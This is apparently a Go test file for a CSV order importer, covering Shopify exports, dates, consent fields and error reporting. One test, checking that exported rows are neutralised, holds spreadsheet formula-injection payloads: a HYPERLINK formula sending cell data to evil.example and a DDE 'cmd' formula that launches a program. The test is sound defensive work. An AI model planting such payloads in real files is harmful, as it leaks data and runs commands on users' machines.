package orderfile_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"doorstep/infra/doorstep/orderfile"
	"doorstep/shared/order"
)

func read(t testing.TB, text string) orderfile.Table {
	t.Helper()
	table, err := orderfile.Read(strings.NewReader(text), false)
	if err != nil {
		t.Fatal(err)
	}
	return table
}

// bodies gives the orders as "number lines body".
func bodies(orders []orderfile.Order) []string {
	var out []string
	for _, o := range orders {
		out = append(out, fmt.Sprint(o.Number, " ", o.Lines, " ", string(o.Body)))
	}
	return out
}

func TestOrders(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, file string
		orders     []string
		problems   []orderfile.Problem
	}{
		{
			name: "our own columns, items over two parcels",
			file: "order_number,placed_at,currency,email,postal,country,item_id,item_name,item_quantity,item_price,tracking_number,carrier\n" +
				"1001,2026-11-20,EUR,robin@example.com,10115,DE,A,Mug,2,19.90,1Z879E930346834440,UPS\n" +
				"1001,,,,,,A,,1,,9400111206206406260787,USPS\n1002,2026-11-20T10:00:00+01:00,EUR,,,,B,Towel,,,,\n",
			orders: []string{
				`1001 [2 3] {"currency":"EUR","customer":{"email":"robin@example.com"},"items":[{"id":"A","name":"Mug","quantity":3,"unit_price":1990}],"placed_at":"2026-11-20",` +
					`"ship_to":{"country":"DE","postal":"10115"},"shipments":[{"carrier":"UPS","items":[{"id":"A","quantity":2}],"tracking_number":"1Z879E930346834440"},` +
					`{"carrier":"USPS","items":[{"id":"A","quantity":1}],"tracking_number":"9400111206206406260787"}]}`,
				`1002 [4] {"currency":"EUR","items":[{"id":"B","name":"Towel","quantity":1}],"placed_at":"2026-11-20T10:00:00+01:00"}`,
			},
		},
		{
			name: "an export of Shopify, as it comes",
			file: "Name,Email,Financial Status,Currency,Lineitem quantity,Lineitem name,Lineitem price,Lineitem sku,Shipping Name,Shipping Street,Shipping Address1,Shipping Zip,Shipping Country,Created at\n" +
				"#2001,pat@example.com,paid,JPY,1,\"Bowl, blue\",4500,BW-1,Pat Example,\"1 Way\",1 Way,100-0001,JP,2026-11-19 09:10:11 +0900\n#2001,,,,3,Chopsticks,300,,,,,,,\n",
			orders: []string{
				`#2001 [2 3] {"currency":"JPY","customer":{"email":"pat@example.com","name":"Pat Example"},"items":[{"id":"BW-1","name":"Bowl, blue","quantity":1,"sku":"BW-1","unit_price":4500},` +
					`{"id":"Chopsticks","name":"Chopsticks","quantity":3,"unit_price":300}],"placed_at":"2026-11-19T09:10:11+09:00","ship_to":{"country":"JP","line1":"1 Way","postal":"100-0001"}}`,
			},
		},
		{
			name: "consent, dated by the row, by the order or not at all",
			file: "order_number,placed_at,item_id,email_consent,sms_consent,consent_at\n1,2026-11-20,A,yes,NO,2026-11-21T10:00:00+01:00\n2,2026-11-20,A,true,,\n3,,A,,1,\n4,2026-11-20T10:00:00+01:00,A,,n,2026-11-21\n5,,A,maybe,,\n6,,A,,,2026-11-21\n",
			orders: []string{
				`1 [2] {"consent":{"at":"2026-11-21T10:00:00+01:00","email":true,"sms":false},"items":[{"id":"A","quantity":1}],"placed_at":"2026-11-20"}`,
				`2 [3] {"consent":{"at":"2026-11-20T00:00:00Z","email":true},"items":[{"id":"A","quantity":1}],"placed_at":"2026-11-20"}`,
				`3 [4] {"consent":{"sms":true},"items":[{"id":"A","quantity":1}]}`,
				`4 [5] {"consent":{"at":"2026-11-21T00:00:00Z","sms":false},"items":[{"id":"A","quantity":1}],"placed_at":"2026-11-20T10:00:00+01:00"}`,
			},
			problems: []orderfile.Problem{
				{Line: 6, Order: "5", Column: "email_consent", Detail: "must be yes or no"},
				{Line: 7, Order: "6", Column: "consent", Detail: "must say email, sms or extra beside at and how"},
			},
		},
		{
			name:   "what Shopify's export says of marketing",
			file:   "Name,Accepts Marketing,Created at,Lineitem name\n#1,no,2026-11-19 09:10:11 +0900,Bowl\n",
			orders: []string{`#1 [2] {"consent":{"at":"2026-11-19T09:10:11+09:00","extra":false},"items":[{"id":"Bowl","name":"Bowl","quantity":1}],"placed_at":"2026-11-19T09:10:11+09:00"}`},
		},
		{
			name:   "semicolons, a byte order mark, commas in prices",
			file:   "\ufefforder_number;item_sku;item_price;currency;promise_latest\r\nA-1;X;1.234,50;EUR;30.11.2026\r\n",
			orders: []string{`A-1 [2] {"currency":"EUR","items":[{"id":"X","quantity":1,"sku":"X","unit_price":123450}],"promise":{"latest":"2026-11-30"}}`},
		},
		{
			name: "an order with a bad row is left out, the others are not",
			file: "order_number,country,item_id,item_quantity,item_price,currency,placed_at,tracking_number,carrier\n" +
				"1,DE,A,1,,,,,\n1,FR,B,two,,,,,\n2,DE,A,1,1.234,EUR,03/04/2026,,\n3,Dee,A,1,,,,,\n4,DE,A,1,,,,,UPS\n,DE,A,1,,,,,\n5,DE,A,1,9.999,JPY,,,\n6,DE,A,1,,,,,\n",
			orders: []string{`6 [9] {"items":[{"id":"A","quantity":1}],"ship_to":{"country":"DE"}}`},
			problems: []orderfile.Problem{
				{Line: 3, Order: "1", Column: "country", Detail: "differs from line 2 of the same order"},
				{Line: 3, Order: "1", Column: "item_quantity", Detail: "must be a whole number, 0 or more"},
				{Line: 4, Order: "2", Column: "placed_at", Detail: "can be read in two ways: say which by --dates dmy or --dates mdy, or write 2026-11-30"},
				{Line: 4, Order: "2", Column: "item_price", Detail: "must be an amount of EUR with at most 2 digits after the decimal sign"},
				{Line: 5, Order: "3", Column: "country", Detail: "must be two capital letters (ISO 3166-1) like DE"},
				{Line: 6, Order: "4", Column: "tracking_number", Detail: "is missing beside the carrier or service"},
				{Line: 7, Column: "order_number", Detail: "is missing"},
				{Line: 8, Order: "5", Column: "item_price", Detail: "must be an amount of JPY with at most 0 digits after the decimal sign"},
			},
		},
		{
			name:     "a price without currency",
			file:     "order_number,item_id,item_price\n1,A,2.00\n",
			problems: []orderfile.Problem{{Line: 2, Order: "1", Column: "item_price", Detail: "needs the order's currency, such as EUR, in the column currency"}},
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			orders, problems := read(t, c.file).Orders(orderfile.Unsaid)
			if diff := cmp.Diff(c.orders, bodies(orders)); diff != "" {
				t.Errorf("orders (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(c.problems, problems); diff != "" {
				t.Errorf("problems (-want +got):\n%s", diff)
			}
		})
	}
}

func TestDates(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		cell  string
		order orderfile.DateOrder
		want  string // empty: refused
	}{
		{"2026-11-30", "", "2026-11-30"}, {"30/11/2026", "", "2026-11-30"}, {"11/30/2026", "", "2026-11-30"}, {"04/04/2026", "", "2026-04-04"},
		{"03/04/2026", "", ""}, {"03/04/2026", orderfile.DayMonthYear, "2026-04-03"}, {"03/04/2026", orderfile.MonthDayYear, "2026-03-04"},
		{"30/11/2026", orderfile.MonthDayYear, ""}, {"3.4.2026", "", "2026-04-03"}, {"2026-11-30 14:05:00", "", "2026-11-30"},
		{"2026-11-30 14:05:00 UTC", "", "2026-11-30T14:05:00Z"}, {"2026-11-30 14:05:00 CET", "", "2026-11-30"}, {"2026-11-30T14:05:00-05:00", "", "2026-11-30T14:05:00-05:00"},
		{"soon", "", ""}, {"2026-02-30", "", ""}, {"Nov-30-26", "", "2026-11-30"}, {"30 Nov 2026", "", "2026-11-30"}, {"30-Nov-2026 14:05", "", "2026-11-30"},
		{"30 November 2026", "", "2026-11-30"}, {"2026/11/3", "", "2026-11-03"}, {"11/30/2026 3:04 pm", "", "2026-11-30"}, {"03/04/2026 3:04 pm", "", ""}, {"30.11.26", "", "2026-11-30"},
		{"11/30/26", "", "2026-11-30"}, {"2026-11-30T14:05", "", "2026-11-30"}, {"Nov 30", "", ""}, {"46356", "", ""}, {"30 Nov", "", ""},
	} {
		t.Run(c.cell+" "+string(c.order), func(t *testing.T) {
			t.Parallel()
			orders, _ := read(t, "order_number,item_id,placed_at\n1,A,"+c.cell+"\n").Orders(c.order)
			got := ""
			if len(orders) == 1 {
				var body struct {
					PlacedAt string `json:"placed_at"`
				}
				if err := json.Unmarshal(orders[0].Body, &body); err != nil {
					t.Fatal(err)
				}
				got = body.PlacedAt
			}
			if got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

func TestReadNamesTheLine(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, file, want string }{
		{"empty", "", "the file is empty"},
		{"no number", "a,b\n1,2\n", "no column order_number"},
		{"twice", "order_number,Order Number\n1,2\n", "are both order_number"},
		{"not UTF-8", "order_number,city\n1,K\xf6ln\n", "line 2 is not UTF-8"},
		{"too many cells", "order_number,city\n1,a,b\n", "line 2 has 3 cells, the heading 2"},
		{"open quote", "order_number,city\n1,\"a\n2,b\n", "extraneous or missing"},
		{"huge cell", "order_number,city\n1," + strings.Repeat("a", 20_000) + "\n", "line 2: the cell below \"city\" has over"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if _, err := orderfile.Read(strings.NewReader(c.file), false); err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("got %v, want %q", err, c.want)
			}
		})
	}
	table, err := orderfile.Read(strings.NewReader("order_number,city,item_id\n1,K\xf6ln,A\n"), true)
	if err != nil {
		t.Fatal(err)
	}
	if orders, _ := table.Orders(""); len(orders) != 1 || !strings.Contains(string(orders[0].Body), "Köln") {
		t.Errorf("Windows-1252 gave %s", bodies(orders))
	}
}

// What is left out can be mended and imported again; rows of good orders are not in it.
func TestBadRowsComeBack(t *testing.T) {
	t.Parallel()
	table := read(t, "order_number,item_id,item_quantity\n1,A,1\n2,A,1\n2,B,x\n")
	_, problems := table.Orders("")
	var b bytes.Buffer
	if err := table.WriteRows(&b, problems); err != nil {
		t.Fatal(err)
	}
	want := "order_number,item_id,item_quantity,problem\n2,A,1,\n2,B,x,\"item_quantity must be a whole number, 0 or more\"\n"
	if b.String() != want {
		t.Errorf("got %q", b.String())
	}
	again, problems := read(t, strings.Replace(b.String(), "x,", "3,", 1)).Orders("")
	if len(again) != 1 || len(problems) != 0 {
		t.Errorf("the mended rows gave %v, %v", bodies(again), problems)
	}
}

// A spreadsheet in which somebody mends the rows computes nothing that a shopper wrote, and importing them again loses nothing.
func TestBadRowsComputeNothing(t *testing.T) {
	t.Parallel()
	const name = "=HYPERLINK(\"\"https://evil.example/\"\"&A1)"
	file := "order_number,item_name,phone,\"=cmd|' /C calc'!A0\",item_quantity\n-1,\"" + name + "\",+15550100,@SUM(A1),x\n'tis,Rock 'n' roll,\"\t=1\",'=2,x\n"
	table := read(t, file)
	_, problems := table.Orders("")
	var b bytes.Buffer
	if err := table.WriteRows(&b, problems); err != nil {
		t.Fatal(err)
	}
	cells, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range slices.Concat(cells...) {
		if cell != "" && strings.Contains("=+-@\t\r", cell[:1]) {
			t.Errorf("the file has the cell %q", cell)
		}
	}
	mended := strings.ReplaceAll(b.String(), ",x,", ",1,")
	want, _ := read(t, strings.ReplaceAll(file, ",x\n", ",1\n")).Orders("")
	got, problems := read(t, mended).Orders("")
	if diff := cmp.Diff(bodies(want), bodies(got)); diff != "" || len(problems) > 0 || len(got) != 2 {
		t.Errorf("mended it gives other orders, problems %v (-want +got):\n%s", problems, diff)
	}
}

// However the rows of orders are mixed, each order is the same, as long as its own rows keep their order.
func TestMixedRowsGiveTheSameOrders(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		rows := map[string][]string{}
		var sequence []string
		for range rapid.IntRange(1, 12).Draw(t, "rows") {
			number := rapid.SampledFrom([]string{"1", "2", "3"}).Draw(t, "order")
			row := fmt.Sprintf("%s,%s,%d,%s", number, rapid.SampledFrom([]string{"A", "B"}).Draw(t, "item"), rapid.IntRange(1, 5).Draw(t, "quantity"),
				rapid.SampledFrom([]string{"", "1Z879E930346834440", "9400111206206406260787"}).Draw(t, "tracking"))
			rows[number] = append(rows[number], row)
			sequence = append(sequence, row)
		}
		const head = "order_number,item_id,item_quantity,tracking_number\n"
		mixed := bodyOf(t, head+strings.Join(sequence, "\n"))
		for number, own := range rows {
			if alone := bodyOf(t, head+strings.Join(own, "\n"))[number]; alone != mixed[number] {
				t.Fatalf("order %s: alone %s, mixed %s", number, alone, mixed[number])
			}
		}
	})
}

func bodyOf(t *rapid.T, file string) map[string]string {
	table, err := orderfile.Read(strings.NewReader(file), false)
	if err != nil {
		t.Fatal(err)
	}
	orders, problems := table.Orders("")
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	out := map[string]string{}
	for _, o := range orders {
		out[o.Number] = string(o.Body)
	}
	return out
}

// FuzzRead: any file gives orders that the API takes, or problems, and never a panic.
func FuzzRead(f *testing.F) {
	f.Add("order_number,item_id,item_price,currency\n1,A,2.00,EUR\n")
	f.Add("Name;Lineitem name;Created at\n#1;x;03/04/2026\n")
	f.Fuzz(func(t *testing.T, file string) {
		table, err := orderfile.Read(strings.NewReader(file), false)
		if err != nil {
			return
		}
		orders, _ := table.Orders("")
		for _, o := range orders {
			change, err := order.Parse(o.Body)
			if err == nil {
				err = change.Check(order.Order{})
			}
			if err != nil || order.CheckNumber(o.Number) != "" {
				t.Fatalf("order %q %s: %v", o.Number, o.Body, err)
			}
		}
	})
}
